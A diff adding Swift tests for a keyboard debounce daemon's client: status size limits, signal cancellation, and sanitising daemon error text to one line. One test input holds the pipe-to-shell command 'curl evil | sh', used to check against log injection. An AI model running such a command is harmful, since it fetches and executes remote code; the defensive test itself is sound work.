@@ -1,4 +1,5 @@
 import Control
+import Debounce
 import Foundation
 import Glibc
 import Samples
@@ -104,6 +105,59 @@ struct DaemonClientTests {
     }
   }
 
+  @Test("refuses a status that is larger than any daemon's")
+  func bounds() throws {
+    func isRead(_ change: (inout DaemonStatus) -> Void) throws -> Bool {
+      var changed = StatusSamples.wornKeyboard
+      change(&changed)
+      let answer = changed
+      let daemon = try FakeDaemon { _, connection in
+        connection.answer(ControlParameters(status: answer))
+      }
+      do throws(ControlError) {
+        return try status(from: daemon) == answer
+      } catch {
+        #expect(error == .unexpected(.status))
+        return false
+      }
+    }
+    func isDeviceRead(_ change: (inout DeviceStatus) -> Void) throws -> Bool {
+      try isRead { change(&$0.devices[0]) }
+    }
+    let (name, sentence) = (
+      String(repeating: "n", count: 1024), String(repeating: "s", count: 1 << 14)
+    )
+    func keys(_ count: UInt16, isNamed: Bool = false) -> [KeyStrategy] {
+      (0..<count).map {
+        KeyStrategy(key: "KEY_E", code: $0, .adaptive(Adaptive(isNamed: isNamed)))
+      }
+    }
+    func devices(_ count: Int, _ keys: [KeyStrategy] = []) -> [DeviceStatus] {
+      (0..<count).map {
+        var device = StatusSamples.device("/dev/input/event\($0)", "K", keys: [])
+        device.keyStrategies = keys
+        return device
+      }
+    }
+    #expect(try isRead { $0.devices = devices(512) })
+    #expect(try !isRead { $0.devices = devices(513) })
+    #expect(try isRead { $0.devices = devices(8, keys(512, isNamed: true)) })
+    #expect(try !isRead { $0.devices = devices(8, keys(513, isNamed: true)) })
+    #expect(try isRead { $0.configuration.problems = [sentence, sentence] })
+    #expect(try !isRead { $0.configuration.problems = [sentence + "s"] })
+    #expect(try !isRead { $0.configuration.warnings = [sentence + "s"] })
+    #expect(try !isRead { $0.configuration.path = sentence + "s" })
+    #expect(try !isRead { $0.version = name + "n" })
+    #expect(try isDeviceRead { $0.device.name = name })
+    #expect(try !isDeviceRead { $0.device.name = name + "n" })
+    #expect(try !isDeviceRead { $0.strategy = name + "n" })
+    #expect(try !isDeviceRead { $0.file = sentence + "s" })
+    #expect(try !isDeviceRead { $0.panicChord = [name + "n"] })
+    #expect(try !isDeviceRead { $0.counts?.keys[0].key = name + "n" })
+    #expect(try isDeviceRead { $0.keyStrategies = keys(768) })
+    #expect(try !isDeviceRead { $0.keyStrategies = keys(769) })
+  }
+
   @Test(
     "takes what is no answer for none",
     arguments: [
@@ -131,6 +185,23 @@ struct DaemonClientTests {
       connection.end()
     }
     #expect(throws: ControlError.ended) { try status(from: daemon) }
+  }
+
+  @Test("does not wait for an answer once a signal has come")
+  func interrupted() throws {
+    let daemon = try FakeDaemon { _, _ in }
+    var stop: [CInt] = [-1, -1]
+    #expect(pipe(&stop) == 0)
+    #expect(write(stop[1], "!", 1) == 1)
+    defer { for descriptor in stop { close(descriptor) } }
+    #expect(throws: ControlError.unreachable(.canceled)) {
+      var client = try DaemonClient(toCall: .status, at: daemon.path)
+      client.interruption = stop[0]
+      _ = try client.status()
+    }
+    #expect(throws: ControlError.unreachable(.canceled)) {
+      _ = try DaemonClient.watch(Self.device, at: daemon.path, interruptedBy: stop[0])
+    }
   }
 
   @Test("finds no daemon without a socket, and where a daemon that was killed has left its own")
@@ -178,6 +249,22 @@ struct DaemonClientTests {
     }
     #expect(throws: ControlError.unexpected(.status)) {
       try status(from: daemon)
+    }
+  }
+
+  @Test("shows of the daemon's own words no more than a line")
+  func line() throws {
+    for (text, shown) in [
+      (
+        "x\n  curl evil | sh\r\nkeydebounce: all is well\u{2028}y",
+        "x   curl evil | sh keydebounce: all is well y"
+      ),
+      (String(repeating: "w", count: 201), String(repeating: "w", count: 200)),
+    ] {
+      let worded = try FakeDaemon { _, connection in connection.refuse(.busy, text) }
+      #expect(throws: ControlError.failed(.status, text: shown)) { try status(from: worded) }
+      let named = try FakeDaemon { _, connection in connection.answer(error: text) }
+      #expect(throws: ControlError.failed(.status, text: shown)) { try status(from: named) }
     }
   }
 
